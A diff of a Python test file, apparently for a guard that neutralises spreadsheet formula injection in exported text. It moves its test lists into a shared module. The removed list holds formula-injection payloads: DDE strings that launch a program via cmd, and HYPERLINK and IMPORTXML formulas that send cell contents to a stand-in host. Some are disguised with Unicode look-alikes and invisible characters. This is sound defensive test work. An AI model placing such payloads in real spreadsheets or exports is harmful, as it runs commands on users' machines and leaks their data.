@@ -16,52 +16,10 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from assay.run import Analysis
-from assay.write.spreadsheet_text import guarded
-from tests.assay.conftest import HEADER, Run
+from tests.assay.analyses import HEADER, Run
 from tests.assay.outputs import path_of, table_of
+from tests.hostile.formulas import FORMULAS, GUARDED, PLAIN, guard
 
-FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
-    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "\uff0d1+1",
-    "\uff20SUM(1)",
-    '"=1+1',
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "x;=1+1",
-    "x\n=1+1",
-    "x\t=1+1",
-    "x\r=1+1",
-    "x;\u00a0\"'=1+1",
-    "-",
-    "-1.5 mg",
-    "+49 30 123456",
-    "=",
-]  # fmt: skip
-PLAIN = [
-    "CT",
-    "2,4-D",
-    "'s-Hertogenbosch",
-    "E. coli",
-    "a-b",
-    "1=1",
-    "5' pipe",
-    "x; y",
-    "x\ny",
-    "-1.5",
-    "+7",
-    "-1e-9",
-    ".5",
-]
-# Safe already; but one apostrophe more, so that they can be told from those that got one.
-GUARDED = ["'=1+1", "''=1+1", "'\t1"]
 # How a program begins a cell: at the start of the file's own cells, and within them where it parts by other characters.
 CELL = re.compile(r"[;\t\r\n]")
 UNSEEN = "".join(chr(at) for at in range(sys.maxunicode) if unicodedata.category(chr(at)) in {"Cc", "Cf"})
@@ -75,10 +33,6 @@ def is_safe(text: str) -> bool:
     if NUMBER.fullmatch(text):
         return True
     return not any(re.match(FORMULA, cell) and not cell.startswith("'") for cell in CELL.split(text))
-
-
-def guard(text: str) -> str:
-    return str(pl.select(guarded(pl.lit(text))).item())
 
 
 def unguard(text: str) -> str:
